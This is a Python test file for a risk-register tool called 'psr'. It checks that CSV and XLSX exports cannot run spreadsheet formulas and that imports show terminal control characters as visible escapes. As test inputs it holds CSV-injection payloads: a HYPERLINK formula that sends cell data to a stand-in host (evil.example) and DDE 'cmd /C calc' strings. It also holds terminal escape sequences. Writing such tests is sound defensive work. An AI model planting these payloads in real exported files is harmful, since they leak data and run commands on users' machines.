"""Exports a spreadsheet opens never run a formula; imports keep the text and show escapes.

The real `psr` command: text typed through `psr risk add`, exported, read back as a
spreadsheet (or as raw CSV cells) and imported again.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from psr_tui.store import Store
from tests.conftest import run_psr
from tests.helpers.hostile import CLEAR_SCREEN, WINDOW_TITLE, edit_first_risk

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


def _add_risks(db: Path) -> dict[str, str]:
    texts = {}
    for number, text in enumerate(FORMULAS, start=9):
        ref = f"R{number}"
        result = run_psr(
            "risk", "add", "--db", db, "--ref", ref, "--likelihood", "Low",
            "--impact", "Critical", "--description", text, "--owner", text,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        texts[ref] = text
    return texts


def test_the_register_csv_runs_no_formula_and_imports_back_as_typed(
    demo_path: Path, tmp_path: Path
) -> None:
    texts = _add_risks(demo_path)
    out = tmp_path / "register.csv"
    assert run_psr("export", "register", "-o", out, "--db", demo_path).returncode == 0
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[4]}" in cells

    fresh = tmp_path / "fresh.json"
    assert run_psr("demo", "--db", fresh).returncode == 0
    result = run_psr("import", "risks", out, "--db", fresh)
    assert result.returncode == 0, result.stderr
    snapshot = Store(fresh).snapshot()
    for ref, text in texts.items():
        risk = snapshot.risk(ref)
        assert risk is not None
        assert (risk.model.description, risk.model.owner) == (text, text)


def test_the_responses_csv_runs_no_formula_and_imports_back_as_typed(
    demo_path: Path, tmp_path: Path
) -> None:
    data = json.loads(demo_path.read_text())
    first = next(iter(data["responses"].values()))
    first["name"], first["organisation"] = FORMULAS[0], FORMULAS[1]
    first["comments"] = {"leadership": FORMULAS[2]}
    demo_path.write_text(json.dumps(data))
    out = tmp_path / "responses.csv"
    assert run_psr("export", "responses", "-o", out, "--db", demo_path).returncode == 0
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []

    result = run_psr("import", "responses", out, "--round", "Copy", "--db", demo_path)
    assert result.returncode == 0, result.stderr
    copied = {r.model.name: r.model for r in Store(demo_path).snapshot().responses("Copy")}
    assert copied[FORMULAS[0]].organisation == FORMULAS[1]
    assert copied[FORMULAS[0]].comments == {"leadership": FORMULAS[2]}


def test_the_register_xlsx_leaves_out_what_it_cannot_hold(demo_path: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    edit_first_risk(
        demo_path, description=f"Funding{CLEAR_SCREEN}{WINDOW_TITLE} gap", owner=FORMULAS[0]
    )
    out = tmp_path / "register.xlsx"
    result = run_psr("export", "register", "-o", out, "--db", demo_path)
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(out).active
    assert sheet is not None
    row = [cell for cell in sheet[2]]
    assert row[1].value == "Funding[2J]0;pwned gap"  # ESC and BEL left out
    assert (row[8].value, row[8].data_type) == (FORMULAS[0], "s")  # text, not a formula


def test_imported_files_show_their_control_characters(demo_path: Path, tmp_path: Path) -> None:
    risks = tmp_path / "risks.csv"
    risks.write_text(
        "ref,description,likelihood,impact\n"
        f'R9,"Estates{CLEAR_SCREEN}\r\nnot ready{WINDOW_TITLE}",Low,Critical\n'
    )
    assert run_psr("import", "risks", risks, "--db", demo_path).returncode == 0
    framework = json.loads(
        (Path(__file__).parents[2] / "psr_tui" / "data" / "aqua.json").read_text()
    )
    framework["name"] = f"Imported{WINDOW_TITLE}"
    framework["domains"][0]["name"] = f"Leader{CLEAR_SCREEN}ship"
    framework_file = tmp_path / "framework.json"
    framework_file.write_text(json.dumps(framework))
    result = run_psr("import", "framework", framework_file, "--db", demo_path)
    assert result.returncode == 0, result.stderr

    snapshot = Store(demo_path).snapshot()
    risk = snapshot.risk("R9")
    assert risk is not None and risk.model.description == "Estates␛[2J\nnot ready␛]0;pwned␇"
    imported = snapshot.framework("Imported␛]0;pwned␇")
    assert imported is not None and imported.domains[0].name == "Leader␛[2Jship"
